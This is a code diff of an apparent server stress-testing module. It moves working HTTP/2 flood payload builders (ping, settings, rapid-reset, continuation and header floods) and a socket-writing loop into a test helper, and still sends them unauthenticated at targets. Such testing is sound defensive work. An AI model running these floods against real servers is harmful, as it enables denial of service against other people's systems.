@@ -1,111 +1,17 @@
-import {once} from 'node:events'
-import type {TLSSocket} from 'node:tls'
+import {HTTP2_FLOODS, pour} from '../../test/helpers/http2-floods.ts'
 import {ANONYMOUS, type Attack} from '../attack.ts'
 import {inTurn} from './bodies.ts'
 import {openSocket} from './sockets.ts'
 
-const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
-const BURST = 500
-
-const TYPE = {
-  data: 0,
-  headers: 1,
-  priority: 2,
-  reset: 3,
-  settings: 4,
-  ping: 6,
-  window: 8,
-  continuation: 9,
-}
-
-function frame(type: keyof typeof TYPE, flags: number, stream: number, payload = Buffer.alloc(0)) {
-  const head = Buffer.alloc(9)
-  head.writeUIntBE(payload.length, 0, 3)
-  head.writeUInt8(TYPE[type], 3)
-  head.writeUInt8(flags, 4)
-  head.writeUInt32BE(stream, 5)
-  return Buffer.concat([head, payload])
-}
-
-/** `:method GET, :scheme https, :path /`, from HPACK's own table, and an authority. */
-const GET = Buffer.concat([Buffer.of(0x82, 0x87, 0x84, 0x41, 0x01), Buffer.from('x')])
-/** A header of a new name each time, never indexed. */
-const header = (name: string, value: string) =>
-  Buffer.concat([
-    Buffer.of(0x10, name.length),
-    Buffer.from(name),
-    Buffer.of(value.length),
-    Buffer.from(value),
-  ])
-const setting = (id: number, value: number) => {
-  const bytes = Buffer.alloc(6)
-  bytes.writeUInt16BE(id, 0)
-  bytes.writeUInt32BE(value, 2)
-  return bytes
-}
-const burst = (one: (number: number) => Buffer) =>
-  Buffer.concat(Array.from({length: BURST}, (_, number) => one(number)))
-const END_STREAM = 1
-const END_HEADERS = 4
-
-/** Each is sent again and again on one connection; `round` counts. */
-const FLOODS: Record<string, (round: number) => Buffer> = {
-  ping: () => burst(() => frame('ping', 0, 0, Buffer.alloc(8))),
-  settings: () => burst((number) => frame('settings', 0, 0, setting(4, number))),
-  'empty settings': () => burst(() => frame('settings', 0, 0)),
-  reset: (round) =>
-    burst((number) => {
-      const stream = 1 + 2 * (round * BURST + number)
-      return Buffer.concat([
-        frame('headers', END_STREAM | END_HEADERS, stream, GET),
-        frame('reset', 0, stream, Buffer.of(0, 0, 0, 8)),
-      ])
-    }),
-  continuation: (round) =>
-    Buffer.concat([
-      ...(round === 0 ? [frame('headers', END_STREAM, 1, GET)] : []),
-      burst((number) => frame('continuation', 0, 1, header(`h${number}`, 'x'.repeat(100)))),
-    ]),
-  'empty continuation': (round) =>
-    Buffer.concat([
-      ...(round === 0 ? [frame('headers', END_STREAM, 1, GET)] : []),
-      burst(() => frame('continuation', 0, 1)),
-    ]),
-  priority: (round) =>
-    burst((number) =>
-      frame('priority', 0, 1 + 2 * (round * BURST + number), Buffer.of(0, 0, 0, 0, 1)),
-    ),
-  'empty data': (round) =>
-    Buffer.concat([
-      ...(round === 0 ? [frame('headers', END_HEADERS, 1, GET)] : []),
-      burst(() => frame('data', 0, 1)),
-    ]),
-  'window of one': (round) =>
-    Buffer.concat([
-      ...(round === 0 ? [frame('settings', 0, 0, setting(4, 0))] : []),
-      Buffer.concat(
-        Array.from({length: 100}, (_, number) =>
-          frame('headers', END_STREAM | END_HEADERS, 1 + 2 * (round * 100 + number), GET),
-        ),
-      ),
-    ]),
-  'many fields': (round) =>
-    frame(
-      'headers',
-      END_STREAM | END_HEADERS,
-      1 + 2 * round,
-      Buffer.concat([GET, ...Array.from({length: 1500}, (_, n) => header(`h${n}`, 'x'))]),
-    ),
-}
-const ROUNDS = 40
+const FLOODS = Object.entries(HTTP2_FLOODS)
 
 /** Frames that cost the receiver more than the sender. */
 export const http2Frames: Attack = {
   name: 'http2-frames',
-  aim: `floods of ${Object.keys(FLOODS).join(', ')}, without credentials`,
+  aim: `floods of ${Object.keys(HTTP2_FLOODS).join(', ')}, without credentials`,
   run: ({holdings, flood, count}) =>
     flood({perSecond: 5, atOnce: 3}, async (number) => {
-      const [name, bytes] = inTurn(Object.entries(FLOODS), number)
+      const [name, bytes] = inTurn(FLOODS, number)
       const socket = await openSocket(holdings, ANONYMOUS, 'h2')
       try {
         count((await pour(socket, bytes)) ? `${name}: taken` : `${name}: closed`)
@@ -113,16 +19,4 @@ export const http2Frames: Attack = {
         socket.destroy()
       }
     }),
-}
-
-/** Whether the server still listened in the end. */
-async function pour(socket: TLSSocket, bytes: (round: number) => Buffer): Promise<boolean> {
-  socket.resume()
-  socket.write(Buffer.concat([Buffer.from(PREFACE), frame('settings', 0, 0)]))
-  let isOpen = true
-  const closed = once(socket, 'close').then(() => (isOpen = false))
-  for (let round = 0; round < ROUNDS && isOpen; round++) {
-    if (!socket.write(bytes(round))) await Promise.race([once(socket, 'drain'), closed])
-  }
-  return isOpen
 }
